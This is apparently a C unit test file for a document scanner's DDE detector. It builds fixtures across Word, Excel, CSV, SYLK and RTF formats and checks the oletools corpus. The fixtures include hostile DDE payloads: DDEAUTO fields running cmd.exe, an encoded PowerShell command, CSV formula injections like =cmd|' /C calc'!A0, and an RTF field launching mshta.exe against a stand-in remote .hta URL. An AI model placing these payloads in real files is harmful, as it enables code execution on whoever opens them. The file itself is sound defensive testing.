/*
 * test_dde.c - DDE fields and formulas (analyzers/an_dde.c) in Word XML, Excel XML, xlsb,
 * CSV, SYLK, RTF and binary .doc: each way of writing one is found with its instruction as
 * evidence, and documents with ordinary fields and formulas stay clean.  Fixtures are made
 * here; the oletools msodde corpus is read in place (its .zip files with the password).
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

static void sh(const char *cmd) { assert_int_equal(system(cmd), 0); }

/* The severity of the first dde.field finding, its evidence, and how many there are. */
static int dde(const fg_result *r, const char **ev, size_t *count)
{
    int sev = -1;
    size_t c = 0;
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++) {
            if (strcmp(o->findings[j].id, "dde.field"))
                continue;
            if (sev < 0) {
                sev = (int)o->findings[j].severity;
                if (ev)
                    *ev = o->findings[j].evidence;
            }
            c++;
        }
    }
    if (count)
        *count = c;
    return sev;
}

static fg_result *scan_zip_of(fg_engine *e, const char *name, const char *member,
                              const char *text)
{
    char cmd[1024];
    snprintf(cmd, sizeof cmd, "rm -rf pkg '%s' && mkdir -p \"$(dirname 'pkg/%s')\"", name, member);
    sh(cmd);
    char path[512];
    snprintf(path, sizeof path, "pkg/%s", member);
    tu_write(path, text);
    tu_write("pkg/[Content_Types].xml",
             "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/"
             "2006/content-types\"/>");
    snprintf(cmd, sizeof cmd, "cd pkg && zip -q -X -r '../%s' . && cd ..", name);
    sh(cmd);
    size_t n;
    uint8_t *d = tu_read(name, &n);
    fg_result *r = tu_scan(e, name, d, n);
    free(d);
    return r;
}

struct dcase {
    const char *label;
    const char *name;   /* input name; a '>' separates a zip from the member written in it */
    const char *text;
    int sev;            /* -1: no dde.field */
    const char *ev;     /* part of the evidence */
};

#define W_DOC(body)                                                                        \
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<w:document xmlns:w=\"" \
    "http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>" body      \
    "</w:p></w:body></w:document>"
#define R_BEGIN "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
#define R_SEP "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
#define R_END "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
#define R_INSTR(t) "<w:r><w:instrText xml:space=\"preserve\">" t "</w:instrText></w:r>"
#define XL_LINK(attrs)                                                                     \
    "<?xml version=\"1.0\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/"        \
    "spreadsheetml/2006/main\"><ddeLink " attrs "><ddeItems><ddeItem name=\"A1\"/></ddeItems>" \
    "</ddeLink></externalLink>"
#define XL_SHEET(f)                                                                        \
    "<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/"           \
    "spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>" f "</f><v>0</v></c>" \
    "</row></sheetData></worksheet>"
#define RTF(field) "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hello " field "\\par}"

static const struct dcase cases[] = {
    /* Word XML */
    {"DDEAUTO in one run", "a.docx>word/document.xml",
     W_DOC(R_BEGIN R_INSTR(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ")
               R_SEP R_END),
     FG_SEV_HIGH, "DDEAUTO c:\\\\windows"},
    {"DDEAUTO split across runs", "a.docx>word/document.xml",
     W_DOC(R_BEGIN R_INSTR(" DD") R_INSTR("EAU") R_INSTR("TO powershell -enc AAAA ") R_END),
     FG_SEV_HIGH, "DDEAUTO powershell"},
    {"DDE with a command in fldSimple", "a.docx>word/footer1.xml",
     W_DOC("<w:fldSimple w:instr=\" DDE &quot;C:\\\\Windows\\\\System32\\\\cmd.exe&quot; "
           "&quot;/c calc&quot; \"/>"),
     FG_SEV_HIGH, "DDE \"C:\\\\Windows"},
    {"DDE link to a data server", "a.docx>word/document.xml",
     W_DOC(R_BEGIN R_INSTR("DDE Excel \"C:\\\\data\\\\q.xls\" \"R1C1\"") R_END), FG_SEV_MEDIUM,
     "DDE Excel"},
    {"keyword built by a nested QUOTE", "a.docx>word/document.xml",
     W_DOC(R_BEGIN R_BEGIN R_INSTR("QUOTE 68 68 69 65 85 84 79") R_END
               R_INSTR(" notepad ") R_END),
     FG_SEV_HIGH, "DDEAUTO"},
    {"ordinary fields", "a.docx>word/document.xml",
     W_DOC(R_BEGIN R_INSTR(" HYPERLINK \"https://www.debian.org/\" ") R_SEP R_END R_BEGIN
               R_INSTR(" PAGE ") R_END "<w:fldSimple w:instr=\" MACROBUTTON Abbrechen x \"/>"
               R_BEGIN R_INSTR(" QUOTE \"DDE is a protocol\" ") R_END),
     -1, NULL},
    {"the word DDE in text", "a.docx>word/document.xml",
     W_DOC("<w:r><w:t>DDEAUTO fields are dangerous: =cmd|' /C calc'!A0</w:t></w:r>"), -1, NULL},
    /* Excel XML */
    {"ddeLink to cmd", "b.xlsx>xl/externalLinks/externalLink1.xml",
     XL_LINK("ddeService=\"cmd\" ddeTopic=\"/c calc.exe\""), FG_SEV_HIGH, "cmd|/c calc.exe"},
    {"ddeLink to a data feed", "b.xlsx>xl/externalLinks/externalLink1.xml",
     XL_LINK("ddeService=\"REUTER\" ddeTopic=\"IDN\""), FG_SEV_MEDIUM, "REUTER|IDN"},
    {"ddeLink to a workbook named like a command", "b.xlsx>xl/externalLinks/externalLink1.xml",
     XL_LINK("ddeService=\"Excel\" ddeTopic=\"[Calculations.xlsx]cmdlets\""), FG_SEV_MEDIUM,
     "Excel|[Calculations.xlsx]cmdlets"},
    {"DDE formula in a sheet", "b.xlsx>xl/worksheets/sheet1.xml",
     XL_SHEET("MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"), FG_SEV_HIGH,
     "MSEXCEL|"},
    {"ordinary formulas", "b.xlsx>xl/worksheets/sheet1.xml",
     XL_SHEET("SUM(A2:A9)&amp;\" | \"&amp;Sheet2!B1"), -1, NULL},
    {"Excel 2003 XML", "c.xml",
     "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
     "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>"
     "<Cell ss:Formula=\"=cmd|'/c calc.exe'!A1\"><Data ss:Type=\"Error\">#REF!</Data></Cell>"
     "</Row></Table></Worksheet></Workbook>",
     FG_SEV_HIGH, "=cmd|'/c calc.exe'!A1"},
    {"Excel 2003 XML, plain", "c.xml",
     "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
     "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><ExcelWorkbook><SupBook><Path>"
     "C:\\data\\Book2.xls</Path></SupBook></ExcelWorkbook><Worksheet><Table><Row>"
     "<Cell ss:Formula=\"=SUM(R[-2]C:R[-1]C)\"><Data ss:Type=\"Number\">3</Data></Cell>"
     "</Row></Table></Worksheet></Workbook>",
     -1, NULL},
    {"OpenDocument DDE connection", "d.odt>content.xml",
     "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:"
     "opendocument:xmlns:office:1.0\"><text:dde-connection-decls><text:dde-connection-decl "
     "office:name=\"x\" office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" "
     "office:dde-item=\"a\"/></text:dde-connection-decls></office:document-content>",
     FG_SEV_HIGH, "cmd|/c calc"},
    /* CSV */
    {"CSV =cmd|", "e.csv", "name,amount\nx,=cmd|' /C calc'!A0\n", FG_SEV_HIGH, "=cmd|' /C calc'!A0"},
    {"CSV +, quoted, semicolons", "e.csv", "a;b\n1;\"+cmd|' /C notepad'!'A1'\"\n", FG_SEV_HIGH,
     "+cmd|"},
    {"CSV -2+3+cmd|", "e.csv", "-2+3+cmd|' /C calc'!A0\n", FG_SEV_HIGH, "cmd|"},
    {"CSV @SUM", "e.csv", "x\t@SUM(1+1)*cmd|' /C calc'!A0\n", FG_SEV_HIGH, "@SUM"},
    {"CSV DDE()", "e.csv", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")\n", FG_SEV_HIGH,
     "=DDE("},
    {"CSV to a non-command server", "e.csv", "=SERVER|'topic'!item\n", FG_SEV_MEDIUM, "SERVER|"},
    {"ordinary CSV and text", "f.csv",
     "id,formula,note\n1,=A1+B1,ok\n2,=SUM(A1:A3),a|b\n- see foo | bar!\n|col|col|\n"
     "=====|=====\nuse DDE (dynamic data exchange) here!\n",
     -1, NULL},
    /* SYLK */
    {"SYLK formula", "g.slk", "ID;PWXL;N;E\nC;X1;Y1;K0;ECMD|' /C calc'!A0\nE\n", FG_SEV_HIGH,
     "CMD|"},
    {"SYLK, plain", "g.slk", "ID;PWXL;N;E\nC;X1;Y1;K3;ESUM(R1C2:R1C3)\nE\n", -1, NULL},
    /* RTF */
    {"RTF DDEAUTO", "h.rtf",
     RTF("{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
         "{\\fldrslt x}}"),
     FG_SEV_HIGH, "DDEAUTO c:\\windows\\system32"},
    {"RTF escapes and groups", "h.rtf",
     RTF("{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\'44D}{E\\u65?UTO} {\\*\\datafield 0011}"
         "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\..\\\\windows"
         "\\\\system32\\\\mshta.exe \"http://x.example/a.hta\"}{\\fldrslt }}"),
     FG_SEV_HIGH, "DDEAUTO C:"},
    {"RTF DDE without command", "h.rtf",
     RTF("{\\field{\\*\\fldinst DDE Excel Sheet1 R1C1}{\\fldrslt 1}}"), FG_SEV_MEDIUM, "DDE Excel"},
    {"RTF ordinary fields", "h.rtf",
     RTF("{\\field{\\*\\fldinst { HYPERLINK \\\\l \"Section\" }}{\\fldrslt DDE}}"
         "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} DDEAUTO as plain text \\{\\\\field\\}"),
     -1, NULL},
};

static void test_cases(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct dcase *c = &cases[i];
        fg_result *r;
        const char *gt = strchr(c->name, '>');
        if (gt) {
            char zip[64];
            snprintf(zip, sizeof zip, "%.*s", (int)(gt - c->name), c->name);
            r = scan_zip_of(e, zip, gt + 1, c->text);
        } else {
            r = tu_scan(e, c->name, c->text, strlen(c->text));
        }
        const char *ev = NULL;
        int sev = dde(r, &ev, NULL);
        int ok = sev == c->sev && (c->sev < 0 || (ev && strstr(ev, c->ev)));
        ok = ok && (c->sev >= FG_SEV_HIGH ? fg_result_verdict(r) == FG_VERDICT_MALICIOUS
                    : c->sev == FG_SEV_MEDIUM ? fg_result_verdict(r) == FG_VERDICT_SUSPICIOUS
                                               : fg_result_verdict(r) == FG_VERDICT_CLEAN);
        if (!ok) {
            print_message("case '%s' failed (severity %d)\n", c->label, sev);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
    }
    fg_engine_free(e);
}

/* An .xlsb external link part: BrtBeginSupBook of type DDE with two XLWideStrings. */
static void test_xlsb(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (int dde_type = 0; dde_type < 2; dde_type++) {
        struct tu_bytes b = {0};
        uint8_t rec[64];
        size_t n = 0;
        rec[n++] = dde_type ? 0x01 : 0x00; /* sbt: 1 = DDE, 0 = another workbook */
        rec[n++] = 0;
        static const char *const s[] = {"cmd", "/c calc.exe"};
        for (int k = 0; k < 2; k++) {
            tu_put_u32le(rec + n, (uint32_t)strlen(s[k]));
            n += 4;
            for (size_t j = 0; j < strlen(s[k]); j++) {
                rec[n++] = (uint8_t)s[k][j];
                rec[n++] = 0;
            }
        }
        uint8_t hdr[3] = {0xE8, 0x02, (uint8_t)n}; /* record 0x168, size */
        tu_bytes_put(&b, hdr, 3);
        tu_bytes_put(&b, rec, n);
        static const uint8_t end[] = {0xCC, 0x04, 0x00}; /* BrtEndSupBook */
        tu_bytes_put(&b, end, sizeof end);
        sh("rm -rf pkg x.xlsb && mkdir -p pkg/xl/externalLinks");
        FILE *f = fopen("pkg/xl/externalLinks/externalLink1.bin", "wb");
        assert_non_null(f);
        fwrite(b.p, 1, b.len, f);
        fclose(f);
        tu_write("pkg/[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>");
        sh("cd pkg && zip -q -X -r ../x.xlsb . && cd ..");
        size_t len;
        uint8_t *d = tu_read("x.xlsb", &len);
        fg_result *r = tu_scan(e, "x.xlsb", d, len);
        const char *ev = NULL;
        int sev = dde(r, &ev, NULL);
        if (dde_type) {
            assert_int_equal(sev, FG_SEV_HIGH);
            assert_string_equal(ev, "cmd|/c calc.exe");
            assert_true(tu_object_has(r, "x.xlsb > xl/externalLinks/externalLink1.bin",
                                      "dde.field"));
        } else {
            assert_int_equal(sev, -1);
        }
        /* Truncated records: no crash, nothing invented. */
        for (size_t cut = 0; cut < 3 + n; cut += 3) {
            f = fopen("pkg/xl/externalLinks/externalLink1.bin", "wb");
            assert_non_null(f);
            fwrite(b.p, 1, cut, f);
            fclose(f);
            sh("rm -f t.xlsb && cd pkg && zip -q -X -r ../t.xlsb . && cd ..");
            size_t tl;
            uint8_t *td = tu_read("t.xlsb", &tl);
            fg_result *t = tu_scan(e, "t.xlsb", td, tl);
            assert_int_equal(dde(t, NULL, NULL), -1);
            fg_result_free(t);
            free(td);
        }
        fg_result_free(r);
        free(d);
        free(b.p);
    }
    fg_engine_free(e);
}

/* Thousands of fields: a bounded number of findings; damaged input: no crash. */
static void test_hostile(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    struct tu_bytes b = {0};
    const char *f = "<w:fldSimple w:instr=\"DDEAUTO cmd /c calc\"/>";
    for (int i = 0; i < 3000; i++)
        tu_bytes_put(&b, f, strlen(f));
    fg_result *r = tu_scan(e, "many.xml", b.p, b.len);
    size_t count = 0;
    assert_int_equal(dde(r, NULL, &count), FG_SEV_HIGH);
    assert_true(count <= 17);
    fg_result_free(r);
    free(b.p);

    /* Deep field nesting, unclosed fields, a long instruction. */
    memset(&b, 0, sizeof b);
    tu_bytes_put(&b, "<?xml version=\"1.0\"?><d>", 24);
    for (int i = 0; i < 200; i++)
        tu_bytes_put(&b, R_BEGIN, strlen(R_BEGIN));
    tu_bytes_put(&b, R_INSTR("DDEAUTO "), strlen(R_INSTR("DDEAUTO ")));
    for (int i = 0; i < 500; i++)
        tu_bytes_put(&b, R_INSTR("xxxxxxxxxxxxxxxxxxxx"), strlen(R_INSTR("xxxxxxxxxxxxxxxxxxxx")));
    r = tu_scan(e, "deep.xml", b.p, b.len);
    fg_result_free(r);
    free(b.p);

    static const char *const bad[] = {
        "{\\rtf1{\\field{\\*\\fldinst DDEAUTO", "{\\rtf1{\\field{\\*\\fldinst \\bin999999999 ",
        "{\\rtf1}}}}}}{\\*\\fldinst DDE}", "{\\rtf1\\u-99999999999999999999999?\\'",
        "{\\rtf1{\\field{\\*\\fldinst \\'4", "ID;P\nC;X1;E", "ID;P\nC;E",
        "=cmd|'", "=cmd|", "|'x'!", "=DDE(", "<w:instrText>DDE", "<w:fldChar w:fldCharType=\"end\"/>",
        "<f>a|'b'!</f>", "<ddeLink ddeService=\"x"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        r = tu_scan(e, "bad", bad[i], strlen(bad[i]));
        fg_result_free(r);
    }
    fg_engine_free(e);
}

/* The msodde corpus: every DDE sample is found (high: all of them run cmd or are DDEAUTO),
 * with the field instruction as evidence; the harmless counterparts and the RTF
 * specification stay clean. */
static void test_corpus(void **state)
{
    (void)state;
    fg_engine *e = NULL;
    assert_int_equal(fg_engine_new(&e), 0);
    assert_int_equal(fg_engine_add_builtin_rules(e), 0);
    assert_int_equal(fg_engine_add_password(e, "infected-test"), 0);
    assert_int_equal(fg_engine_compile(e), 0);
    static const struct {
        const char *file, *where, *ev;
    } dirty[] = {
        {"msodde/dde-test.docx", "word/document.xml", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"},
        {"msodde/dde-test.docm", "word/document.xml", "DDEAUTO c:\\\\windows"},
        {"msodde/dde-test.xlsx", "xl/externalLinks/externalLink1.xml", "cmd|/c calc.exe"},
        {"msodde/dde-test.xlsm", "xl/externalLinks/externalLink1.xml", "cmd|/c calc.exe"},
        {"msodde/dde-test.xlsb", "xl/externalLinks/externalLink1.bin", "cmd|/c calc.exe"},
        {"msodde/dde-in-csv.csv", "dde-in-csv.csv", "=cmd|'/k \\..\\..\\..\\Windows"},
        {"msodde/dde-in-excel2003.xml", "dde-in-excel2003.xml", "cmd|/c calc.exe"},
        {"msodde/dde-in-word2003.xml.zip", "dde-in-word2003.xml", "DDEAUTO c:\\\\windows"},
        {"msodde/dde-in-word2007.xml.zip", "dde-in-word2007.xml", "DDEAUTO c:\\\\windows"},
        {"msodde/dde-test-from-office2003.doc.zip", "WordDocument", "DDEAUTO c:\\\\windows"},
        {"msodde/dde-test-from-office2016.doc.zip", "WordDocument", "DDEAUTO c:\\\\windows"},
        {"msodde/dde-test-from-office2013-utf_16le-korean.doc.zip", "WordDocument",
         "DDEAUTO c:\\\\windows"},
        {"ooxml/dde-in-excel2003.xml", "dde-in-excel2003.xml", "cmd|/c calc.exe"},
    };
    for (size_t i = 0; i < sizeof dirty / sizeof dirty[0]; i++) {
        size_t n;
        uint8_t *d = tu_oletools(dirty[i].file, &n);
        if (!d)
            fail_msg("corpus file missing: %s", dirty[i].file);
        fg_result *r = tu_scan(e, dirty[i].file, d, n);
        const char *ev = NULL;
        int sev = dde(r, &ev, NULL);
        int ok = sev == FG_SEV_HIGH && ev && strstr(ev, dirty[i].ev) &&
                 tu_object_has(r, dirty[i].where, "dde.field") &&
                 fg_result_verdict(r) == FG_VERDICT_MALICIOUS;
        if (!ok) {
            print_message("%s\n", dirty[i].file);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
        free(d);
    }
    static const char *const clean[] = {
        "msodde/harmless-clean.docx", "msodde/harmless-clean.docm", "msodde/harmless-clean.doc",
        "msodde/harmless-clean.xml",  "msodde/harmless-clean-2003.xml", "msodde/RTF-Spec-1.7.rtf",
        "ooxml/harmless-clean.xml",   "ooxml/harmless-clean-2003.xml",
        "excel4-macros/excel4_sample_macro.slk", "oleobj/embedded-simple-2007.xlsb",
        "oleobj/embedded-simple-2007.docx"};
    for (size_t i = 0; i < sizeof clean / sizeof clean[0]; i++) {
        size_t n;
        uint8_t *d = tu_oletools(clean[i], &n);
        if (!d)
            fail_msg("corpus file missing: %s", clean[i]);
        fg_result *r = tu_scan(e, clean[i], d, n);
        int ok = dde(r, NULL, NULL) < 0;
        if (strncmp(clean[i], "excel4", 6))
            ok = ok && fg_result_verdict(r) == FG_VERDICT_CLEAN;
        if (!ok) {
            print_message("%s\n", clean[i]);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
        free(d);
    }
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_cases, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_xlsb, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_hostile, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
